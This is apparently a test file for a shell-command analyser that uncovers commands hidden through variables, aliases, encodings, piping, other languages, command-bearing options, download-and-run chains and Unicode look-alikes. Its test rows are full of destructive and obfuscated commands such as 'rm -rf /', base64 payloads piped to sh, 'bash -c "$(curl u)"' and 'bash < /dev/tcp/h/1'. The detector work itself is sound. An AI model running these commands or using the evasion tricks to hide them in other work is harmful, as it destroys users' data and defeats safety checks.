import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { Shell } from "../../src/parse/command.ts";
import { understand } from "../../src/parse/understand.ts";

/** A line, the command that it runs without showing it, and the shell when it is not bash. */
type Row = readonly [line: string, command: string, shell?: Shell];

const tables: Readonly<Record<string, readonly Row[]>> = {
  "variables that the line sets": [
    ["X=/; rm -rf $X", "rm -rf /"],
    ["cmd=rm; $cmd -rf x", "rm -rf x"],
    ["a=r b=m; $a$b -rf /", "rm -rf /"],
    ['CODE="rm -rf /"; eval $CODE', "rm -rf /"],
    ["CMD='rm -rf /'; $CMD", "rm -rf /"],
    ["a=(rm -rf /); ${a[@]}", "rm -rf /"],
    ['a=(rm -rf /); "${a[@]}"', "rm -rf /"],
    ["a=rm; a+=' -rf /'; $a", "rm -rf /"],
    ["export D=/etc && rm -rf $D", "rm -rf /etc"],
    ["readonly D=/etc; rm -rf ${D}/x", "rm -rf /etc/x"],
    ["for f in / /etc; do rm -rf $f; done", "rm -rf /etc"],
    ["for f in {/,/etc}; do rm -rf $f; done", "rm -rf /etc"],
    ["read x <<< /etc; rm -rf $x", "rm -rf /etc"],
    ["echo /etc | while read f; do rm -rf $f; done", "rm -rf /etc"],
    ["printf '%s\\n' /a /b | while read -r f; do rm -rf \"$f\"; done", "rm -rf /b"],
    ["rm -rf ${X:-/}", "rm -rf /"],
    ["unset x; eval ${x:=rm x}", "rm x"],
    ["x=/etc/passwd; rm ${x%/*}", "rm /etc"],
    ["x=a/rm; ${x##*/} y", "rm y"],
    ["x=xm; ${x/x/r} y", "rm y"],
    ["x=RM; ${x,,} y", "rm y"],
    ["x=rmdir; ${x:0:2} y", "rm y"],
    ["n=rm; m=n; ${!m} y", "rm y"],
    ['set -- rm -rf /; "$@"', "rm -rf /"],
    ["set -- / x; rm $1", "rm /"],
    ["IFS=:; t='rm:-rf:/'; $t", "rm -rf /"],
    ["rm$IFS-rf$IFS/", "rm -rf /"],
    ["declare -n t=u; u=rm; $t x", "rm x"],
    ["declare -l t=RM; $t x", "rm x"],
    ["A=rm; declare A=echo B=$A; $B x", "rm x"],
    ["printf -v x '%s' rm; $x y", "rm y"],
    ["mapfile -t a <<< 'rm x'; eval \"${a[0]}\"", "rm x"],
    ["X=/ bash -c 'rm $X'", "rm /"],
    ["bash -c 'rm \"$1\"' _ /", "rm /"],
    ["if true; then x=/; else x=/tmp; fi; rm $x", "rm /"],
    ["set x /; rm $x", "rm /", "fish"],
    ["for f in / /etc; rm $f; end", "rm /etc", "fish"],
    ["x=rm; $x y", "rm y", "zsh"],
  ],
  "functions and aliases that the line defines": [
    ['f() { rm -rf "$1"; }; f /', "rm -rf /"],
    ["function f { rm $@; }; f / x", "rm / x"],
    ["alias x='rm -rf /'; x", "rm -rf /"],
    ["function f; rm $argv; end; f /", "rm /", "fish"],
  ],
  "texts that can be computed": [
    ["echo cm0gLXJmIC8= | base64 -d | sh", "rm -rf /"],
    ["base64 -d <<< cm0gLXJmIC8= | bash", "rm -rf /"],
    ['eval "$(echo cm0gLXJmIC8= | base64 -d)"', "rm -rf /"],
    ["echo 726d202f | xxd -r -p | sh", "rm /"],
    ["echo '/ fr- mr' | rev | sh", "rm -rf /"],
    ["echo 'ez k' | tr a-z n-za-m | sh", "rm x"],
    ["printf '\\x72\\x6d x' | sh", "rm x"],
    ["$(printf '\\162\\155') x", "rm x"],
    ["$(echo rm) -rf /", "rm -rf /"],
    ["sh -c \"$(printf 'rm %s' /)\"", "rm /"],
    ["bash <(echo rm x)", "rm x"],
    ["source /dev/stdin <<< 'rm x'", "rm x"],
    ["echo 'rm x' | sudo bash", "rm x"],
    ["{ echo 'rm x'; } | sh", "rm x"],
    ["$'\\x72m' x", "rm x"],
  ],
  "words that are piped in": [
    ["echo / | xargs rm -rf", "rm -rf /"],
    ["printf '%s\\n' a b | xargs -I{} rm -rf {}", "rm -rf b"],
    ["echo / | parallel rm -rf", "rm -rf /"],
    ["parallel rm -rf ::: / /etc", "rm -rf /etc"],
    ["parallel ::: 'rm x'", "rm x"],
    ["echo / | xargs -I% bash -c 'rm -rf %'", "rm -rf /"],
  ],
  "code in other languages": [
    ["python -c \"import shutil; shutil.rmtree('/home/user')\"", "rm -rf /home/user"],
    ["python3 -c 'import os; os.system(\"rm -rf /\")'", "rm -rf /"],
    ['python3 -c \'import subprocess as s; s.check_call(["rm", "-rf", "/"])\'', "rm -rf /"],
    ["python3 <<E\nimport os\np = '/etc'\nos.remove(p)\nE", "rm -rf /etc"],
    ['perl -e \'system("rm", "-rf", "/")\'', "rm -rf /"],
    ["perl -e '`rm x`'", "rm x"],
    ["perl -e 'unlink \"/etc/passwd\"'", "rm -f /etc/passwd"],
    ["ruby -e 'system \"rm x\"'", "rm x"],
    ["ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'", "rm -rf /"],
    ['node -e \'require("child_process").execSync("rm x")\'', "rm x"],
    ['node -e \'require("fs").rmSync("/x", { recursive: true })\'', "rm -rf /x"],
    ["php -r 'exec(\"rm x\");'", "rm x"],
    ["awk 'BEGIN { system(\"rm x\") }'", "rm x"],
    ["lua -e 'os.execute(\"rm x\")'", "rm x"],
    ["osascript -e 'do shell script \"rm x\"'", "rm x"],
    ["echo 'import os; os.system(\"rm x\")' | python3", "rm x"],
  ],
  "options and operands that hold a command": [
    ["ssh -o 'ProxyCommand=rm x' h", "rm x"],
    ["git -c 'alias.a=!rm x' a", "rm x"],
    ["tar cf a.tar --checkpoint-action=exec='rm x' b", "rm x"],
    ["rsync -e 'rm x' a h:b", "rm x"],
    ["socat TCP:h:1 EXEC:'rm x'", "rm x"],
    ["vim -c ':!rm x'", "rm x"],
    ["mapfile -C 'rm x' -c 1 a <<< l", "rm x"],
    ["PROMPT_COMMAND='rm x'", "rm x"],
    ["crontab - <<E\n* * * * * rm x\nE", "rm x"],
    ["rm -rf /et[c]", "rm -rf /etc"],
  ],
};

for (const [name, rows] of Object.entries(tables)) {
  describe(name, () => {
    for (const [line, command, shell = "bash"] of rows) {
      test(JSON.stringify(line), () => {
        const texts = understand(line, { shell }).commands.map(({ words }) => words.map(({ text }) => text).join(" "));
        assert.ok(texts.includes(command), texts.join(" · "));
      });
    }
  });
}

describe("lines made to be slow", () => {
  /** A script with an error is read as each of the shells would read it, and so is each script in it. */
  const lines = {
    "errors in evals": 'eval "$(echo ; for f in a; do a=( '.repeat(200),
    "pipes of decoders": `echo x ${"| base64 -d | xargs eval ".repeat(300)}`,
    "functions that call each other": `${Array.from({ length: 60 }, (_, at) => `f${at}() { f${at + 1}; f${at + 1}; }; `).join("")}f0`,
    "values in values": `${Array.from({ length: 60 }, (_, at) => `x${at + 1}="$x${at}$x${at}"; `).join("")}$x60`,
    "many combinations": `${"for a in 1 2 3; do for b in 1 2 3; do for c in 1 2 3; do ".repeat(5)}rm $a$b$c`,
  };
  for (const [name, line] of Object.entries(lines)) {
    test(name, () => assert.ok(understand(line, { shell: "bash" }).commands.length < 2000));
  }
});

describe("what is only text", () => {
  const lines = [
    "X=rm; echo $X",
    'A=echo; export A=rm B=$A; "$B" x',
    "echo cm0gLXJmIC8= | base64 -d",
    "echo 'rm x' | grep rm",
    "x='rm y'; echo \"$x\"",
    "alias x='rm y'",
    "for f in rm; do echo $f; done",
    "python -c 'print(\"rm x\")'",
    "python -c 'import re; re.search(\"rm\", x)'",
    "node -e 'console.log(\"rm x\")'",
    "awk '/rm x/ { print }' log",
    "git commit -m 'alias.x=!rm y'",
    "cat <<E | tr a b\nrm x\nE",
  ];
  for (const line of lines) {
    test(JSON.stringify(line), () =>
      assert.ok(!understand(line, { shell: "bash" }).commands.some(({ name }) => name === "rm")),
    );
  }
});

describe("who gets what is downloaded", () => {
  const lines: readonly (readonly [string, string])[] = [
    ["curl -o x.sh u; sh x.sh", "sh"],
    ["curl -fsSLo x.sh u && chmod +x x.sh && ./x.sh", "chmod sh"],
    ["curl -O https://h/x.sh && bash ./x.sh", "bash"],
    ["curl u > x.sh; source x.sh", "source"],
    ["curl u | tee x.sh; sh x.sh", "tee sh"],
    ["curl -o a u; cp a b; bash b", "cp bash"],
    ['bash -c "$(curl u)"', "bash"],
    ['sudo bash -c "$(curl u)"', "sudo bash"],
    ["source <(curl u)", "source"],
    ["curl u > a.sh; . ./a.sh", "source"],
    ['bash <<< "$(curl u)"', "bash"],
    ["cat <(curl u) | bash", "cat bash"],
    ['X=$(curl u); eval "$X"', "eval"],
    ['python3 -c "$(curl u)"', "python3"],
    ["exec {fd}< <(curl u); bash <&$fd", "exec bash"],
    ["curl u | python3 -m json.tool", "json.tool"],
    ["curl u | python3 -c 'import sys'", ""],
    ["curl -o x.json u; python3 read.py x.json", ""],
    ["curl -o x.sh u && less x.sh && sh x.sh", ""],
    ["curl -o x.sh u && echo sum | sha256sum -c && sh x.sh", ""],
  ];
  for (const [line, expected] of lines) {
    test(line, () => {
      const { commands } = understand(line, { shell: "bash" });
      const ways = commands.filter(({ name }) => name === "curl").map(({ pipedTo }) => pipedTo.map(String).join(" "));
      assert.ok(ways.includes(expected), ways.join(" · "));
    });
  }

  test("a shell that reads from the network", () => {
    const { commands } = understand("bash < /dev/tcp/h/1", { shell: "bash" });
    assert.deepEqual(commands.find(({ name }) => name === "nc")?.pipedTo, ["bash"]);
  });
});

describe("look-alikes", () => {
  const lines: readonly (readonly [string, string])[] = [
    ["\u0433m -rf x", "rm"],
    ["\uFF52\uFF4D -rf x", "rm"],
    ["r\u200Bm x", "rm"],
    ["/b\u0456n/rm x", "/bin/rm"],
    ["curl https://g\u043E\u043Egle.com/x", "google.com"],
    ["echo привет", ""],
    ["rm отчёт.txt", ""],
    ["./запуск --да", ""],
    ["мойскрипт x", ""],
    ["curl https://пример.рф/x", ""],
    ["curl https://例え.jp/x", ""],
    ["cat 'naïve café.txt'", ""],
    ["git commit -m '✨ añade'", ""],
    ["mv 👩\u200D💻.png x", ""],
  ];
  for (const [line, like] of lines) {
    test(line, () =>
      assert.equal(
        understand(line, { shell: "bash" })
          .lookalikes.map((one) => one.like)
          .join(" "),
        like,
      ),
    );
  }
});
